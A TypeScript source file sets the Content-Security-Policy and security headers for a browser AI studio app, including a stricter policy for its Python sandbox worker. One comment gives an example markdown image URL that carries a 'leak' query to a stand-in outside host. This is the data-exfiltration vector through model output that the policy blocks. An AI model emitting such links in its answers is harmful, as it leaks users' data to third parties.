/**
 * The Content-Security-Policy of the built app, as a `<meta>` in index.html and as a header from
 * `vite preview`. It allows only what the studio needs:
 * - scripts from this origin, plus compiling WebAssembly (`'wasm-unsafe-eval'`: WebLLM's model
 *   library); no eval, so zod runs `jitless` (zod-config.ts);
 * - workers from this origin or blob: (WebLLM's engine worker);
 * - images only from this origin, data: and blob:, so an image in a model's answer
 *   (`![x](https://other.example/p.png?leak=...)`) cannot call anywhere;
 * - connections to any http(s) or ws(s) endpoint: workers and the Conductor are endpoints the user
 *   configures (a provider over https, Ollama or vLLM over http on localhost or the LAN), so is the
 *   OpenTelemetry collector in Settings (Phoenix, Langfuse, an OTel Collector; its own CORS rules
 *   decide whether it takes the page's POST), and WebLLM downloads weights from Hugging Face;
 * - inline styles (React and React Flow set style attributes), no plugins, no frames, no forms.
 * The dev server gets no policy: Vite's hot reload injects inline scripts.
 *
 * A `<meta>` policy cannot say who may frame the page, so the headers a host sends add
 * `frame-ancestors 'none'` (and the older `X-Frame-Options: DENY`): `vite preview` sends them, and
 * a build writes them to `dist/_headers` for static hosts that read that file (Netlify, Cloudflare
 * Pages). The code sandbox's worker gets a stricter policy of its own (CODE_WORKER_POLICY).
 */
export const CONTENT_SECURITY_POLICY = [
  "default-src 'self'",
  "script-src 'self' 'wasm-unsafe-eval'",
  "worker-src 'self' blob:",
  "style-src 'self' 'unsafe-inline'",
  "img-src 'self' data: blob:",
  "font-src 'self' data:",
  "media-src 'self' data: blob:",
  "connect-src 'self' https: http: wss: ws: data: blob:",
  "object-src 'none'",
  "frame-src 'none'",
  "base-uri 'none'",
  "form-action 'none'",
].join("; ");

/** The page's policy as a header: the meta policy plus what only a header can say. */
export const HEADER_POLICY = `${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`;

/**
 * The Python sandbox's worker (browser-worker.ts): it loads its own script and Pyodide's files from
 * this origin and compiles WebAssembly; nothing else, so a program that reached JavaScript there
 * could neither call out of the origin nor start a worker. No `'unsafe-eval'`: eval and the function
 * constructors stay off.
 */
export const CODE_WORKER_POLICY = [
  "default-src 'none'",
  "script-src 'self' 'wasm-unsafe-eval'",
  "connect-src 'self'",
  "worker-src 'none'",
  "base-uri 'none'",
].join("; ");

/** Where a build puts the code sandbox's worker (vite.config.ts names it so). */
export const CODE_WORKER_PATH = "/assets/code-worker-";

/** The headers every response of the app carries. */
export const APP_HEADERS: Readonly<Record<string, string>> = {
  "Content-Security-Policy": HEADER_POLICY,
  "X-Frame-Options": "DENY",
  "X-Content-Type-Options": "nosniff",
  "Referrer-Policy": "no-referrer",
};

/** The `_headers` file a build writes for static hosts (Netlify and Cloudflare Pages syntax). */
export function staticHostHeaders(base = "/"): string {
  const root = base.endsWith("/") ? base : `${base}/`;
  const lines = [`${root}*`, ...Object.entries(APP_HEADERS).map(([k, v]) => `  ${k}: ${v}`)];
  lines.push(`${root}${CODE_WORKER_PATH.slice(1)}*`);
  // Hosts join a second matching rule's value to the first with a comma: two policies, both
  // enforced, so the worker runs under the stricter of them.
  lines.push(`  Content-Security-Policy: ${CODE_WORKER_POLICY}`);
  return lines.join("\n") + "\n";
}
